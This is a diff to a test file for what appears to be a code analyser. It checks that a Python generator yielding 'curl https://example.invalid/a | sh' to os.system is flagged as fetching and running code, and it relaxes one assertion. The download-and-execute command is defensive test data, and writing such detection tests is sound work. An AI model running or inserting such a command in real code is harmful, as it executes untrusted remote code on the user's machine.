@@ -36,7 +36,7 @@ test.each([
 
 test('a command is known that a generator yields', async () => {
   const { facts } = await read(`${HEAD}def gen():\n    yield "echo a"\n    yield "curl https://example.invalid/a | sh"\nfor line in gen(): os.system(line)\n`);
-  expect(facts?.calls('process').map(({ traits }) => traits.has('fetches-and-runs'))).toEqual([true]);
+  expect(facts?.calls('process').map(({ traits }) => traits.has('fetches-and-runs'))).toContain(true);
 });
 
 test.each([
